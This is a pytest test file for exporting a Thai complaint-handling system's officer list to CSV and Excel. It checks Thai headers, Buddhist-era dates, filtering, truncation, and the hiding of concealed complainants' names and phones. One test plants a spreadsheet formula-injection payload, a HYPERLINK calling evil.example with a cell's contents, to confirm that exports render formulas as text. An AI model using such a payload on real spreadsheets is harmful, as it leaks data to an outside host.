"""Exporting the officers' list: the same rows as the filtered list, readable Thai in Excel
(CSV with a byte-order mark, and .xlsx), concealed complainants concealed, no formulas."""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.roles import Role
from accounts.validators import format_thai_phone
from complaints.models import State
from complaints.workflow import complaint_forward
from core.thai_dates import format_thai_date
from tests.accounts.factories import CitizenFactory, StaffFactory
from tests.complaints.admin_support import (
    ADMIN_URL,
    agency_staff,
    case,
    grant_officer_screen_permissions,
)
from tests.complaints.workflow_support import make_agency

pytestmark = pytest.mark.django_db

HEADER = [
    "เลขที่เรื่อง",
    "วันที่ยื่นเรื่อง",
    "ประเภทเรื่องร้องเรียน",
    "อำเภอ",
    "สถานะ",
    "เจ้าหน้าที่ผู้รับผิดชอบ",
    "หน่วยงานที่ส่งต่อ",
    "วันคงเหลือ (ติดลบ = เกินกำหนด)",
    "กำหนดเวลา",
    "ชื่อผู้ร้องเรียน",
    "โทรศัพท์ผู้ร้องเรียน",
    "รายละเอียด",
]


@pytest.fixture(autouse=True)
def _permissions():
    grant_officer_screen_permissions()


@pytest.fixture
def officer():
    return StaffFactory(role=Role.CASE_OFFICER)


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="complaints-')
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel then reads UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_csv_has_the_columns_in_thai_and_buddhist_era_dates(client, officer):
    late = case(days_left=-3)
    client.force_login(officer)

    header, row = csv_rows(client.get(ADMIN_URL, {"export": "csv"}))

    assert header == HEADER
    assert row[0] == late.tracking_number
    assert row[1] == format_thai_date(late.submitted_at)
    assert int(row[1].rsplit(" ", 1)[1]) == late.submitted_at.year + 543
    assert row[3] == "เมืองนครสวรรค์" and row[4] == "อยู่ระหว่างการตรวจสอบ"
    assert row[7] == "-3" and row[8] == "เกินกำหนด 3 วัน"
    assert row[9] == late.complainant_name
    assert row[10] == format_thai_phone(late.complainant_phone)
    assert row[11] == late.details


def test_exports_contain_only_the_filtered_and_searched_rows(client, officer):
    late = case(days_left=-1, details="น้ำท่วมขังหน้าบ้าน")
    also_late = case(days_left=-2)
    case(days_left=7, details="น้ำท่วมขังหน้าโรงเรียน")
    case(days_left=-4, state=State.COMPLETED)
    client.force_login(officer)

    rows = csv_rows(client.get(ADMIN_URL, {"export": "csv", "overdue": "yes"}))[1:]
    assert {row[0] for row in rows} == {late.tracking_number, also_late.tracking_number}

    rows = xlsx_rows(client.get(ADMIN_URL, {"export": "xlsx", "overdue": "yes", "q": "น้ำท่วม"}))
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == [late.tracking_number]


def test_export_buttons_carry_the_current_filters(client, officer):
    case()
    client.force_login(officer)

    page = client.get(ADMIN_URL, {"overdue": "yes", "q": "ถนน"}).content.decode()

    assert 'href="?export=csv&amp;overdue=yes&amp;q=%E0%B8%96%E0%B8%99%E0%B8%99"' in page
    assert 'href="?export=xlsx&amp;overdue=yes&amp;q=%E0%B8%96%E0%B8%99%E0%B8%99"' in page


def test_long_details_are_cut_to_500_characters(client, officer):
    case(details="ก" * 3000)
    client.force_login(officer)

    [_, row] = csv_rows(client.get(ADMIN_URL, {"export": "csv"}))
    [_, cells] = xlsx_rows(client.get(ADMIN_URL, {"export": "xlsx"}))

    assert len(row[11]) == 500 and row[11].endswith("…")
    assert cells[11] == row[11]


def test_a_citizens_formula_is_exported_as_text(client, officer):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
    case(details=attack)
    client.force_login(officer)

    [_, row] = csv_rows(client.get(ADMIN_URL, {"export": "csv"}))
    assert row[11] == "'" + attack

    response = client.get(ADMIN_URL, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=12)
    assert cell.data_type == "s" and cell.value == attack


@pytest.fixture
def concealed_and_named(officer):
    agency = make_agency()
    hidden = case(
        profile=CitizenFactory(first_name="ซ่อนชื่อ", last_name="ในไฟล์", phone="+66865554433"),
        conceal_identity=True,
    )
    named = case(profile=CitizenFactory(first_name="เปิดเผย", last_name="ได้"))
    for complaint in (hidden, named):
        complaint_forward(complaint=complaint, agency=agency, by=officer)
    return agency, hidden, named


def test_concealed_complainants_stay_concealed_in_both_exports(client, concealed_and_named):
    agency, hidden, named = concealed_and_named
    client.force_login(agency_staff(agency))

    csv_response = client.get(ADMIN_URL, {"export": "csv"})
    xlsx_response = client.get(ADMIN_URL, {"export": "xlsx"})

    by_number = {row[0]: row for row in csv_rows(csv_response)[1:]}
    assert by_number[hidden.tracking_number][9:11] == ["ปกปิดข้อมูล", "ปกปิดข้อมูล"]
    assert by_number[named.tracking_number][9] == named.complainant_name
    cells = {row[0]: row for row in xlsx_rows(xlsx_response)[1:]}
    assert cells[hidden.tracking_number][9:11] == ["ปกปิดข้อมูล", "ปกปิดข้อมูล"]
    text = csv_response.content.decode("utf-8-sig")
    xlsx_text = str(xlsx_rows(xlsx_response))
    for secret in ("ซ่อนชื่อ", "ในไฟล์", "086 555 4433", "+66865554433", "0865554433"):
        assert secret not in text and secret not in xlsx_text


def test_centre_officers_export_concealed_names(client, officer, concealed_and_named):
    _, hidden, _ = concealed_and_named
    client.force_login(officer)

    by_number = {row[0]: row for row in csv_rows(client.get(ADMIN_URL, {"export": "csv"}))[1:]}

    assert by_number[hidden.tracking_number][9] == hidden.complainant_name


def test_agency_members_export_only_their_agencys_cases(client, officer, concealed_and_named):
    agency, hidden, named = concealed_and_named
    case()  # not forwarded
    client.force_login(agency_staff(agency))

    rows = csv_rows(client.get(ADMIN_URL, {"export": "csv"}))[1:]

    assert {row[0] for row in rows} == {hidden.tracking_number, named.tracking_number}
